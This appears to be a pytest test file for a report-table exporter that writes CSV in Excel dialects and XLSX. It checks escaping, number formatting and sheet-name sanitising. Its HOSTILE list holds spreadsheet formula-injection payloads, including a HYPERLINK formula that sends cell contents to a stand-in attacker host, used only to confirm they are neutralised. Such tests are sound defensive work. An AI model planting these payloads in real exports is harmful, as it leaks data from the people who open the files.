"""Report tables as files: CSV in each Excel dialect, read back with Python's csv
module, and XLSX, read back with openpyxl (an independent reader)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.domain.csv_cells import csv_cell, safe_text_cell
from chalicelib.domain.table_files import (
    BOM,
    DIALECTS,
    KINDS,
    LANGS,
    Column,
    Kind,
    Lang,
    Table,
    Value,
    csv_value,
    render_csv,
)
from chalicelib.domain.text import refused_character
from chalicelib.files.xlsx import render_xlsx, sheet_name
from tests.unit.strategies import PROPERTY

HOSTILE = [
    "=1+1",
    "+41 123",
    "-2",
    "@SUM(A1:A2)",
    "\t=cmd",
    "\r=1+1",
    "a;=1+1",
    "x,-2",
    "ok\n@x",
    " =1",
    "\u200b=1",
    '"=1"',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "plain text",
    "Äänekoski; Åland",
]


def titles(text: str) -> dict[str, str]:
    return {"fi": f"{text} fi", "sv": f"{text} sv", "en": f"{text} en"}


COLUMNS = [
    Column("name", {"fi": "Nimi", "sv": "Namn", "en": "Name"}),
    Column(
        "evaluations", {"fi": "Arviointeja", "sv": "Bedömningar", "en": "Evaluations"}, "integer"
    ),
    Column("mean", {"fi": "Keskiarvo", "sv": "Medelvärde", "en": "Mean"}, "decimal"),
    Column("compliance", {"fi": "Toteuma %", "sv": "Uppfyllt %", "en": "Compliance %"}, "percent"),
    Column("day", {"fi": "Päivä", "sv": "Dag", "en": "Day"}, "date"),
]
TABLE = Table(
    {"fi": "Toteuma: [marras]/2026", "sv": "Uppfyllelse", "en": "Compliance"},
    COLUMNS,
    [
        ["Aino Ääninen", 12, Decimal("84.165"), Decimal("81.25"), date(2026, 11, 2)],
        ['=HYPERLINK("http://x")', 0, None, None, None],
        [None, None, Decimal("-4.2"), "100", "2026-11-30"],
        ["-50", 3, 90, Decimal("0"), None],
    ],
)


def parse_csv(data: bytes, lang: Lang) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8"))
    text = data.decode("utf-8")[1:]
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=DIALECTS[lang].delimiter))


def read_xlsx(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def excel_shows(stored: str) -> str:
    """What Excel shows for a stored string: `_xHHHH_` is the character HHHH, read
    left to right once (so `_x005F_x0041_` is the text `_x0041_`). openpyxl only drops
    `x005F_`, so the tests read the strings themselves."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), stored)


def string_cells(data: bytes) -> dict[str, str]:
    """Cell reference -> the text Excel shows, for every string cell of the first sheet,
    straight from the XML (shared strings and the sheet's cells)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        # Our own render's XML, not untrusted input.
        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    texts = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in shared]
    return {
        str(c.get("r")): excel_shows(texts[int(c.findtext("m:v", "", NS))])
        for c in sheet.iterfind(".//m:c[@t='s']", NS)
    }


# --- CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_csv_starts_with_a_bom_and_ends_lines_with_crlf(lang: Lang) -> None:
    data = render_csv(TABLE, lang)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 1 + len(TABLE.rows)
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_finnish_and_swedish_split_on_semicolons_with_a_decimal_comma() -> None:
    for lang in ("fi", "sv"):
        rows = parse_csv(render_csv(TABLE, lang), lang)
        assert rows[1] == ["Aino Ääninen", "12", "84,17", "81,25", "2026-11-02"]
        assert rows[3] == ["", "", "-4,20", "100,00", "2026-11-30"]
        assert rows[4] == ["'-50", "3", "90,00", "0,00", ""]
    assert parse_csv(render_csv(TABLE, "fi"), "fi")[0] == [
        "Nimi",
        "Arviointeja",
        "Keskiarvo",
        "Toteuma %",
        "Päivä",
    ]
    assert parse_csv(render_csv(TABLE, "sv"), "sv")[0][1] == "Bedömningar"


def test_english_splits_on_commas_with_a_decimal_point() -> None:
    data = render_csv(TABLE, "en")
    rows = parse_csv(data, "en")
    assert rows[0] == ["Name", "Evaluations", "Mean", "Compliance %", "Day"]
    assert rows[1] == ["Aino Ääninen", "12", "84.17", "81.25", "2026-11-02"]
    assert rows[3] == ["", "", "-4.20", "100.00", "2026-11-30"]
    assert b"84.17,81.25" in data


def test_none_is_an_empty_cell_and_percent_has_no_sign() -> None:
    line = render_csv(TABLE, "fi").split(b"\r\n")[2]
    assert line == b'"\'=HYPERLINK(""http://x"")";0;;;'
    assert b"%" not in b"".join(render_csv(TABLE, "fi").split(b"\r\n")[1:])


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_is_neutralised_exactly_as_payroll_cells_are(hostile: str, lang: Lang) -> None:
    same: dict[str, str] = dict.fromkeys(LANGS, hostile)
    table = Table(titles("t"), [Column("x", same), Column("y", titles("y"))], [[hostile, None]])
    header, row = parse_csv(render_csv(table, lang), lang)
    assert header[0] == csv_cell(hostile) == safe_text_cell(hostile)
    assert row == [csv_cell(hostile), ""]
    for piece in re.split("[,;\t\r\n]", row[0]):
        visible = piece.lstrip(' \t"\u200b')
        assert not visible or visible[0] not in "=+-@"


def test_the_formula_characters_each_get_an_apostrophe() -> None:
    table = Table(
        titles("t"), [Column("x", titles("x"))], [[v] for v in ("=1+1", "+1", "-1", "@a")]
    )
    assert [r[0] for r in parse_csv(render_csv(table, "fi"), "fi")[1:]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@a",
    ]


def test_negative_numbers_stay_numbers() -> None:
    table = Table(titles("t"), [Column("d", titles("d"), "decimal")], [[Decimal("-4.20")]])
    assert parse_csv(render_csv(table, "fi"), "fi")[1] == ["-4,20"]


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("integer", "12"),
        ("integer", True),
        ("integer", Decimal("1")),
        ("decimal", "=1+1"),
        ("decimal", "1e5"),
        ("decimal", 1.5),
        ("decimal", Decimal("NaN")),
        ("percent", "81,25"),
        ("date", "2026-13-01"),
        ("date", "2026-11-02T10:00"),
        ("date", datetime(2026, 11, 2, tzinfo=UTC)),
        ("text", 12),
    ],
)
def test_a_value_the_column_cannot_hold_is_refused(kind: Kind, value: object) -> None:
    with pytest.raises(ValueError, match="cannot hold"):
        Table(titles("t"), [Column("x", titles("x"), kind)], [[value]])


def test_a_table_needs_every_title_and_aligned_rows() -> None:
    with pytest.raises(ValueError, match="no title in sv"):
        Column("x", {"fi": "x", "en": "x"})
    with pytest.raises(ValueError, match="2 cells for 1 columns"):
        Table(titles("t"), [Column("x", titles("x"))], [["a", "b"]])
    with pytest.raises(ValueError, match="distinct keys"):
        Table(titles("t"), [Column("x", titles("x")), Column("x", titles("y"))], [])


def test_decimals_round_half_up_once_and_never_show_minus_zero() -> None:
    table = Table(
        titles("t"),
        [Column("d", titles("d"), "decimal")],
        [[Decimal("0.005")], [Decimal("2.675")], [Decimal("-0.004")], ["12.345"]],
    )
    assert [r[0] for r in parse_csv(render_csv(table, "en"), "en")[1:]] == [
        "0.01",
        "2.68",
        "0.00",
        "12.35",
    ]


# --- XLSX --------------------------------------------------------------------------------


def test_xlsx_keeps_numbers_as_numbers_and_text_as_text() -> None:
    sheet = read_xlsx(render_xlsx(TABLE, "fi"))
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert [c.value for c in rows[0]] == ["Nimi", "Arviointeja", "Keskiarvo", "Toteuma %", "Päivä"]
    assert all(c.font.b for c in rows[0])
    assert sheet.freeze_panes == "A2"

    aino = rows[1]
    assert [c.value for c in aino[:4]] == ["Aino Ääninen", 12, 84.17, 81.25]
    assert aino[4].value.date() == date(2026, 11, 2)
    assert [c.data_type for c in aino] == ["s", "n", "n", "n", "d"]
    assert [c.number_format for c in aino[1:]] == ["0", "0.00", "0.00", "yyyy-mm-dd"]

    hyperlink = rows[2][0]
    assert hyperlink.value == '=HYPERLINK("http://x")'
    assert hyperlink.data_type == "s"
    assert hyperlink.hyperlink is None
    assert [c.value for c in rows[2][1:]] == [0, None, None, None]

    assert [c.value for c in rows[3][:4]] == [None, None, -4.2, 100]
    assert rows[3][4].value.date() == date(2026, 11, 30)
    assert rows[4][0].value == "-50"
    assert rows[4][0].data_type == "s"


def test_xlsx_formulas_urls_and_numbers_in_text_stay_strings() -> None:
    hostile = [*HOSTILE, "http://example.com", "mailto:a@b.fi", "12", "1e5", "TRUE", "#N/A"]
    table = Table(titles("t"), [Column("x", titles("x"))], [[v] for v in hostile])
    data = render_xlsx(table, "en")
    sheet = read_xlsx(data)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    shown = string_cells(data)
    assert [shown[f"A{n}"] for n in range(2, 2 + len(hostile))] == hostile
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.hyperlink is None for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert b"<hyperlink" not in sheet_xml


def test_xlsx_sheet_title_is_sanitised() -> None:
    assert read_xlsx(render_xlsx(TABLE, "fi")).title == "Toteuma marras2026"
    assert read_xlsx(render_xlsx(TABLE, "en")).title == "Compliance"
    assert sheet_name("a" * 40) == "a" * 31
    assert sheet_name("'quoted'") == "quoted"
    assert sheet_name("[]:*?/\\") == "Laatu"
    assert sheet_name("history") == "history 1"
    assert sheet_name("tab\there\nnew") == "tab here new"
    long_emoji = "\U0001f600" * 20
    assert len(sheet_name(long_emoji).encode("utf-16-le")) // 2 <= 31
    for lang in LANGS:
        title = read_xlsx(render_xlsx(Table(titles("x" * 40 + "?"), COLUMNS, []), lang)).title
        assert len(title) <= 31
        assert not set(title) & set("[]:*?/\\")


def test_xlsx_text_that_looks_like_an_excel_escape_is_shown_as_written() -> None:
    texts = ["a_x0041_b", "_x005f_", "tab\tcr\rlf\n", "x_x00_", ""]
    table = Table(titles("t"), [Column("x", titles("_x0042_"))], [[t] for t in texts])
    shown = string_cells(render_xlsx(table, "fi"))
    assert [shown.get(f"A{n}", "") for n in range(1, 2 + len(texts))] == ["_x0042_ fi", *texts]


def test_xlsx_column_widths_follow_the_content() -> None:
    sheet = read_xlsx(render_xlsx(TABLE, "fi"))
    widths = {key: sheet.column_dimensions[key].width for key in "ABCDE"}
    assert all(8 <= w <= 61 for w in widths.values())
    assert widths["A"] > widths["C"]


def test_xlsx_import_is_lazy() -> None:
    import subprocess
    import sys

    code = (
        "import sys, chalicelib.api.downloads, chalicelib.files.xlsx;"
        "assert 'xlsxwriter' not in sys.modules, 'imported at module level'"
    )
    subprocess.run([sys.executable, "-c", code], check=True)  # noqa: S603 - fixed command


# XlsxWriter 3.3.1 guards `_xHHHH_` patterns with a non-overlapping regex, so in
# "a_x005F_x0020_" (two patterns sharing an underscore) the second goes unguarded
# and Excel shows "a_x005F ". Display only (still a string cell, never a formula).
OVERLAPPING_ESCAPES = "a_x005F_x0020_"


@pytest.mark.xfail(strict=True, reason="XlsxWriter 3.3.1: overlapping _xHHHH_ patterns")
def test_xlsx_overlapping_escape_patterns_are_shown_as_written() -> None:
    table = Table(titles("t"), [Column("x", titles("x"))], [[OVERLAPPING_ESCAPES]])
    assert string_cells(render_xlsx(table, "fi"))["A2"] == OVERLAPPING_ESCAPES


# --- Properties --------------------------------------------------------------------------

ACCEPTED_TEXT = st.text(
    st.characters(codec="utf-8").filter(lambda c: refused_character(c) is None), max_size=30
)
TWO_DECIMALS = st.decimals(
    min_value=Decimal("-100000"), max_value=Decimal("100000"), places=2, allow_nan=False
)
VALUES: dict[Kind, st.SearchStrategy[Value]] = {
    "text": ACCEPTED_TEXT | st.sampled_from([*HOSTILE, "_x0041_", "a_x005f_", "\r\n"]),
    "integer": st.integers(min_value=-(10**12), max_value=10**12),
    "decimal": TWO_DECIMALS,
    "percent": st.decimals(min_value=0, max_value=100, places=2),
    "date": st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
}


@st.composite
def tables(draw: st.DrawFn) -> Table:
    kinds = draw(st.lists(st.sampled_from(KINDS), min_size=1, max_size=6))
    columns = [
        Column(f"c{i}", {lang: draw(ACCEPTED_TEXT) for lang in LANGS}, kind)
        for i, kind in enumerate(kinds)
    ]
    rows = draw(
        st.lists(st.tuples(*(st.none() | VALUES[kind] for kind in kinds)).map(list), max_size=8)
    )
    return Table({lang: draw(ACCEPTED_TEXT) for lang in LANGS}, columns, rows)


@PROPERTY
@given(tables(), st.sampled_from(LANGS))
def test_csv_parses_back_to_the_same_cells(table: Table, lang: Lang) -> None:
    dialect = DIALECTS[lang]
    parsed = parse_csv(render_csv(table, lang), lang)
    assert parsed[0] == [csv_cell(title) for title in table.header(lang)]
    expected = [
        [csv_value(c.kind, v, dialect) for c, v in zip(table.columns, row, strict=True)]
        for row in table.typed_rows
    ]
    assert parsed[1:] == expected
    for row, typed in zip(parsed[1:], table.typed_rows, strict=True):
        for column, cell, value in zip(table.columns, row, typed, strict=True):
            if value is None:
                assert cell == ""
            elif column.kind in ("decimal", "percent"):
                assert Decimal(cell.replace(dialect.decimal_point, ".")) == value
            elif column.kind == "integer":
                assert int(cell) == value
            elif column.kind == "date":
                assert date.fromisoformat(cell) == value
            else:
                assert cell == safe_text_cell(str(value))


@PROPERTY
@given(tables(), st.sampled_from(LANGS))
def test_xlsx_reads_back_to_the_same_values(table: Table, lang: Lang) -> None:
    data = render_xlsx(table, lang)
    sheet = read_xlsx(data)
    shown = string_cells(data)
    rows = list(sheet.iter_rows(max_row=1 + len(table.typed_rows)))
    assert [shown.get(c.coordinate, "") for c in rows[0]] == table.header(lang)
    assert len(rows) == 1 + len(table.typed_rows)
    for got, typed in zip(rows[1:], table.typed_rows, strict=True):
        for column, cell, value in zip(table.columns, got, typed, strict=True):
            if value is None:
                assert cell.value is None
            elif column.kind == "text":
                assert cell.data_type == "s"
                assert shown.get(cell.coordinate, "") == value
            elif column.kind == "date":
                assert isinstance(value, date)
                assert isinstance(cell.value, datetime)
                assert cell.value.date() == value
            else:
                assert cell.data_type == "n"
                assert Decimal(str(cell.value)) == value
